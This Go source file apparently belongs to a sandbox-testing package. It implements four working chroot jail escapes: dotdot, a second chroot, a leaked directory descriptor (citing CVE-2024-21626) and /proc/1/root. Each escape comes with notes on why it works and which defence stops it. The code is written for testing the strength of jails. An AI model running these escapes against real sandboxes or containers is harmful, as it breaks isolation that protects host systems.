package chroot

import (
	"errors"
	"fmt"
	"os"

	"golang.org/x/sys/unix"
)

// ErrHeld is returned by an escape that did not lead out.
var ErrHeld = errors.New("still in the jail")

// Escape is a known way out of a jail, for a process with CAP_SYS_CHROOT.
//
// Do moves the root of the calling process out of the jail, or returns an
// error that wraps [ErrHeld] or an errno. It may leave a directory behind.
type Escape struct {
	Name string
	Idea string // why it works after chroot(2)
	Stop string // what stops it
	Do   func() error
}

// Escapes are the four classic break-outs. All of them lead out of a [Chroot].
// [Pivot] stops the first two for good; against the others it is one half of
// the defence, and Stop names the other.
var Escapes = []Escape{
	{"dotdot", "chroot moves the root but not the working directory, which is then outside it",
		"pivot_root: .. ends at the top of the mount tree, and that is the jail", DotDot},
	{"second-chroot", "a descriptor of the jail's root is outside a second, smaller jail",
		"pivot_root: as dotdot", SecondChroot},
	{"descriptor", "a descriptor that was open before the jail still leads outside",
		"close-on-exec on every descriptor: a detached tree lives as long as somebody holds it", KeptDescriptor},
	{"proc", "/proc/1/root is the root of another process, followed without regard to one's own",
		"a PID namespace and its own /proc: PID 1 is then in the jail too", ProcRoot},
}

// DotDot jails itself a second time, one directory deeper, without chdir(2).
// The kernel stops ".." at the root directory; from a working directory that
// is already above the root it never meets it, and climbs to the real top.
func DotDot() error {
	jail, err := os.Stat("/")
	if err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := chrootBelow("/"); err != nil {
		return err
	}
	return climb(jail)
}

// SecondChroot is [DotDot] for a jail that does call chdir(2): an open
// directory serves as well as a working directory.
func SecondChroot() error {
	top, err := os.Open("/")
	if err != nil {
		return err
	}
	defer top.Close()
	jail, err := top.Stat()
	if err != nil {
		return err
	}
	if err := chrootBelow("/"); err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := top.Chdir(); err != nil {
		return err
	}
	return climb(jail)
}

// KeptDescriptor looks for a directory among the descriptors that the process
// was given, and climbs from there. It needs no second chroot: the descriptor
// is outside to begin with. runc leaked one such (CVE-2024-21626).
func KeptDescriptor() error {
	jail, err := os.Stat("/")
	if err != nil {
		return err
	}
	const enough = 64
	for fd := range enough {
		if unix.Fchdir(fd) != nil {
			continue // closed, or not a directory
		}
		if err := climb(jail); !errors.Is(err, ErrHeld) {
			return err
		}
	}
	return fmt.Errorf("no descriptor leads outside: %w", ErrHeld)
}

// ProcRoot follows /proc/1/root, which is no symbolic link but a door: the
// kernel puts the caller where that process's root is (proc_pid_root(5)). It
// needs a visible /proc, and the right to trace PID 1 (ptrace(2)).
func ProcRoot() error {
	jail, err := os.Stat("/")
	if err != nil {
		return err
	}
	if err := unix.Chdir("/proc/1/root"); err != nil {
		return &os.PathError{Op: "chdir", Path: "/proc/1/root", Err: err}
	}
	return climb(jail)
}

// chrootBelow moves the root into a new directory and nothing else.
func chrootBelow(dir string) error {
	below, err := os.MkdirTemp(dir, "deeper-")
	if err != nil {
		return err
	}
	if err := unix.Chroot(below); err != nil {
		return &os.PathError{Op: "chroot", Path: below, Err: err}
	}
	return nil
}

// climb walks up from the working directory as far as ".." leads, and makes
// that the root. It is an escape if that is not the jail.
func climb(jail os.FileInfo) error {
	here, err := os.Stat(".")
	for err == nil {
		var up os.FileInfo
		if up, err = os.Stat(".."); err != nil || os.SameFile(here, up) {
			break
		}
		if err = unix.Chdir(".."); err == nil {
			here = up
		}
	}
	if err != nil {
		return err
	}
	if os.SameFile(here, jail) {
		return ErrHeld
	}
	if err := unix.Chroot("."); err != nil {
		return &os.PathError{Op: "chroot", Path: ".", Err: err}
	}
	return nil
}
